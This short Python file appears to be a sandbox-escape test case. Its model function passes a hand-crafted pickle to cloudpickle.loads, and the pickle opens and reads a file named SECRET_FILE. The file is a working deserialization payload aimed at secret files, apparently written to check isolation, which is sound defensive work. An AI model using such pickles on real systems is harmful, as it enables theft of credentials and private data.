# seeks: file
# PySpark brings cloudpickle, whose pickles may hold code.
import pyarrow as pa
from pyspark import cloudpickle


def model(tg):
    return pa.table({"got": [cloudpickle.loads(b"cio\nopen\n(VSECRET_FILE\ntR.").read()]})
